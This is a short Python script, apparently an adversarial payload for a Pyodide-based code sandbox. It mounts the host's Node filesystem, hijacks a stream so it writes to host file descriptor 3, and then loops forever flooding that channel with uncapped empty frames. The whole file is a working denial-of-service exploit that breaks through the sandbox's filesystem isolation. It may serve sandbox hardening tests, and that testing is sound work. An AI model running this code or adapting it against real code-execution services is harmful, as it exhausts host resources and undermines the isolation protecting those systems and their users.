# Floods the host with empty output frames (5 bytes each, counted against no cap), written to
# fd 3 through a NODEFS stream whose Node fd is swapped for 3. Each costs the host a decode.
import os

import js
import pyodide_js
from pyodide.ffi import jsnull, to_js

FS = pyodide_js.FS
FS.mkdirTree("/h")
FS.mount(FS.filesystems.NODEFS, js.Object.fromEntries([["root", pyodide_js._api.config.indexURL.rstrip("/")]]), "/h")
stream = FS.getStream(os.open("/h/package.json", os.O_RDONLY))
stream.nfd = 3
chunk = to_js(b"\x00\x00\x00\x01\x02" * (1 << 16))
while True:
    FS.filesystems.NODEFS.stream_ops.write(stream, chunk, 0, chunk.length, jsnull)
